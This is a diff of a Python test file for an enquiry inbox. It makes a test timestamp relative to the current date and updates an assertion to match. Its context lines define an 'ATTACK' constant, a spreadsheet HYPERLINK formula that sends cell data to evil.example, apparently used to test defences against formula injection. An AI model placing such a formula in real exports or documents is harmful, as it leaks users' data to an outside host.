@@ -32,7 +32,8 @@ PROBE = REPO_ROOT / "tests" / "apps" / "data_management_probe.py"
 OFFICER = "lan@heza.example"
 SECRETS = {"auth": {"redirect_uri": "http://localhost/oauth2callback", "cookie_secret": "test-only",
                     "client_id": "test", "client_secret": "test", "server_metadata_url": "http://localhost/none"}}
-T0 = datetime(2026, 5, 4, 9, 0, tzinfo=UTC)
+#: a month ago (the inbox deletes enquiries past their retention when it opens: a fixed date would age out)
+T0 = datetime.now(UTC).replace(hour=9, minute=0, second=0, microsecond=0) - timedelta(days=30)
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"site plan")'
 MARKUP = "**Lê** <b>x</b>"
 KIM = Enquiry(uuid="0b8f1f8e-0000-4000-8000-000000000001", name="Kim Min-jun", company="Hanbit Electronics",
@@ -131,7 +132,7 @@ def test_a_staff_member_sees_the_tab_the_counts_and_every_enquiry_newest_first(s
     table = listed(at)
     assert list(table[en("enquiry.field.name")]) == ["Park Ji-ho", MARKUP, "Kim Min-jun"]
     kim = table.iloc[2]
-    assert kim[en("enquiry.field.submitted_at")] == "4 May 2026 09:00"  # the reader's date, UTC as the header says
+    assert kim[en("enquiry.field.submitted_at")] == inbox.when(T0, "en")  # the reader's date (its doctest), UTC
     assert kim[en("enquiry.field.parks")] == "Anh Duong IP"  # the park's name in the reader's language
     assert kim[en("enquiry.field.country")] == "South Korea (KR)"
     assert kim[en("enquiry.field.land_ha")] == "12"
